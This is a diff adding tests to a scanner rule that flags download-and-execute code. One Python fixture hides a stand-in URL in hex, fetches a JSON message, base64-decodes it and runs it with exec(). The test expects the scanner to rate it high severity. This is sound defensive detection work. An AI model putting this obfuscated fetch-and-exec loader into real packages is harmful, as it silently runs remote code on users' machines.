@@ -69,3 +69,14 @@ describe('download-exec: a script written out and started', () => {
     expect(hits('download-exec', { 'setup.py': build })).toEqual([]);
   });
 });
+
+describe('download-exec: fetched, decoded and executed through names', () => {
+  it('holds a function that fetches a JSON message, base64-decodes it and execs it (high)', () => {
+    const src = `import requests, base64\ndef db_indicator():\n    url = bytes.fromhex('68747470733a2f2f6170692e6578616d706c652e70726f2f736f636b6574').decode()\n    res = requests.get(url)\n    code = base64.b64decode(res.json().get('message', '')).decode()\n    exec(code)\n`;
+    expect(maxSev(hits('download-exec', { 'pkg/core.py': src }))).toBe('high');
+  });
+  it('does not flag exec of a local version file in a module that also downloads', () => {
+    const src = `import requests\ndef version():\n    latest = requests.get('https://pypi.org/pypi/pkg/json').json()['info']['version']\n    ns = {}\n    exec(open('pkg/_version.py').read(), ns)\n    return ns['__version__'], latest\n`;
+    expect(hits('download-exec', { 'pkg/util.py': src })).toEqual([]);
+  });
+});
